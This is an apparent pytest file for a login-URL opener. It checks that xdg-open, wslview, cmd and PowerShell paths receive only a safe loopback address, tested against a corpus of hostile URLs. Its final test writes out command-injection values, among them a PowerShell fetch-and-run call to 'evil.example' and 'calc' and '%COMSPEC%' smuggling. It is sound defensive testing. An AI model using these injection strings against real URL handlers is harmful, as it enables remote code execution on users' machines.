"""Every opener gets one address that no shell evaluates, and the browser is led to the URL that the terminal shows."""

import asyncio
import os
import re
import shutil
import subprocess
from urllib.parse import parse_qsl, unquote_to_bytes, urlsplit

import pytest
from hostile_urls import PAYLOADS, corpus
from needs import needs
from openers import CMD, EVAL, POWERSHELL, WSLVIEW, WSLVIEW_2, WSLVIEW_CMD, XDG_OPEN

from mcp_auth_bridge.errors import UrlRefused
from mcp_auth_bridge.shell.browser.login_window import LoginWindow
from mcp_auth_bridge.shell.browser.loopback import Loopback
from mcp_auth_bridge.shell.browser.opener import open_url
from mcp_auth_bridge.shell.console import terminal
from mcp_auth_bridge.urls import Purpose, gate, shell_safe

pytestmark = [
    pytest.mark.skipif(os.name == "nt", reason="the openers are scripts"),
    # The browser goes on after the bridge has ended, which does not wait for it.
    pytest.mark.filterwarnings("ignore:subprocess .* is still running:ResourceWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]

OPENERS = {
    "xdg-open": XDG_OPEN,
    "wslview": WSLVIEW,
    "wslview of wslu 2": WSLVIEW_2,
    "wslview by cmd": WSLVIEW_CMD,
    "a shell": EVAL,
}
EVALUATORS = {"powershell.exe": POWERSHELL, "cmd.exe": CMD}
ENTRANCE = re.compile(r"http://127\.0\.0\.1:[0-9]+/open/[0-9a-f]{32}")
PLACES = (
    "https://as.example/a{}",
    "https://as.example/{}/b",
    "https://as.example/a;v={}?x=1",
    "https://as.example/a?x={}&y=2",
    "https://as.example/a?x&{}&y",
    "http://127.0.0.1:1/{}",
)


def hostile():
    """A thousand URLs for an authorization endpoint, each of which is refused or opened."""
    urls = [*corpus(), *(place.format(payload) for payload in PAYLOADS for place in PLACES)]
    return list(dict.fromkeys(urls))


def segments(path):
    """The segments of `path`, decoded after it is split (RFC 3986 section 3.3)."""
    return [unquote_to_bytes(segment) for segment in path.split("/")]


def accepted(url):
    try:
        return gate(url, Purpose.AUTHORIZATION)
    except UrlRefused:
        return None


@pytest.fixture
def desk(tmp_path, monkeypatch):
    """A call starts the opener of that name with a URL, waits for its end and returns its argument."""
    notes = tmp_path / "notes"
    os.mkfifo(notes)
    for name, script in {**OPENERS, **EVALUATORS}.items():
        program = tmp_path / name.replace(" ", "-")
        program.write_text(script.replace('"$NOTES"', f'"{notes}"').replace('os.environ["NOTES"]', repr(str(notes))))
        program.chmod(0o700)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")

    def start(name, url):
        assert open_url(url, (str(tmp_path / name.replace(" ", "-")),))
        count, *words = notes.read_text().splitlines()
        assert (count, len(words)) == ("1", 1), words
        return words[0]

    return start


async def led_to(address):
    """The URL to which a browser is redirected that opens `address`."""
    place = urlsplit(address)
    reader, writer = await asyncio.open_connection(place.hostname, place.port)
    writer.write(f"GET {place.path} HTTP/1.1\r\nHost: {place.netloc}\r\n\r\n".encode())
    head = (await reader.read()).decode("latin-1")
    writer.close()
    return re.search(r"\r\nlocation: ([^\r]*)\r\n", head)[1]


def opened(monkeypatch, start, urls):
    """For each of `urls`: the argument of the opener, the URL in the terminal, and the URL that the browser reaches."""
    shown = []
    monkeypatch.setattr(terminal, "print_url", shown.append)
    monkeypatch.setattr(terminal, "say", lambda _: None)

    class Waiting(Loopback):
        async def wait_for_callback(self, state, _):
            return {"state": state}

    async def story():
        loopback, found = Waiting(), []
        await loopback.listen()
        for url in urls:
            arguments = []
            window = LoginWindow(loopback, lambda address: bool(arguments.append(start(address)) or True))  # noqa: B023 - used at once
            await window.authorize(url, "S")
            found.append((arguments[0], shown.pop(), await led_to(arguments[0])))
        await loopback.finish(b"")
        return found

    return asyncio.run(story())


@pytest.mark.parametrize("opener", OPENERS)
@pytest.mark.parametrize("every", [25, pytest.param(1, marks=pytest.mark.slow)])
def test_no_opener_gets_a_character_that_anything_evaluates(desk, monkeypatch, opener, every):
    urls = [url for url in hostile()[::every] if accepted(url)]
    assert len(hostile()) >= 1000
    for url, (argument, shown, led) in zip(
        urls, opened(monkeypatch, lambda address: desk(opener, address), urls), strict=True
    ):
        assert ENTRANCE.fullmatch(argument), url
        assert led == shown
        wanted, got = accepted(url), urlsplit(led)
        assert (got.scheme, got.netloc) == (wanted.scheme, wanted.authority)
        assert segments(got.path) == segments(wanted.path)
        assert parse_qsl(got.query, keep_blank_values=True) == parse_qsl(wanted.query, keep_blank_values=True)


@needs("xdg-open")
def test_the_real_xdg_open_hands_on_what_it_is_given(desk, tmp_path, monkeypatch):
    """Without a desktop it starts the system's browser, which is the stub."""
    real = shutil.which("xdg-open", path=os.environ["PATH"].removeprefix(f"{tmp_path}:"))
    (tmp_path / "xdg-open").rename(tmp_path / "x-www-browser")
    (tmp_path / "xdg-open").symlink_to(real)
    for name in ("XDG_CURRENT_DESKTOP", "DESKTOP_SESSION", "DBUS_SESSION_BUS_ADDRESS", "WAYLAND_DISPLAY"):
        monkeypatch.delenv(name, raising=False)
    for name, value in {"DISPLAY": ":0", "HOME": str(tmp_path), "XDG_DATA_DIRS": str(tmp_path)}.items():
        monkeypatch.setenv(name, value)
    urls = [wanted for url in hostile()[::25] if (wanted := accepted(url))]
    for url in ["http://127.0.0.1:49152/open/0123456789abcdef", *map(str, urls)]:
        assert desk("xdg-open", url) == shell_safe(gate(url, Purpose.AUTHORIZATION))


@pytest.mark.parametrize("opener", ["wslview"])
@pytest.mark.parametrize("every", [25, pytest.param(1, marks=pytest.mark.slow)])
def test_even_a_url_itself_is_nothing_to_powershell(desk, opener, every):
    """The second line of defence: in fact an opener never gets the URL of a server."""
    for url in hostile()[::every]:
        if (wanted := accepted(url)) is not None:
            got = urlsplit(desk(opener, url))
            assert segments(got.path) == segments(wanted.path)


@pytest.mark.parametrize(
    ("opener", "evil"),
    [
        ("wslview", "a$(iex(irm('https://evil.example')))"),
        ("wslview", "a`calc"),
        ("wslview of wslu 2", "a?x&calc&y"),
        ("wslview of wslu 2", "a;calc"),
        ("wslview by cmd", "%COMSPEC%"),
    ],
)
def test_the_evaluators_of_this_test_do_evaluate(tmp_path, desk, opener, evil):
    """A stub that noticed nothing would prove nothing."""
    script = tmp_path / opener.replace(" ", "-")
    seen = subprocess.Popen([script, f"https://as.example/{evil}"], env={"PATH": f"{tmp_path}:/usr/bin:/bin"})
    assert (tmp_path / "notes").read_text().startswith("0\nevaluated: ")
    assert seen.wait() == 0
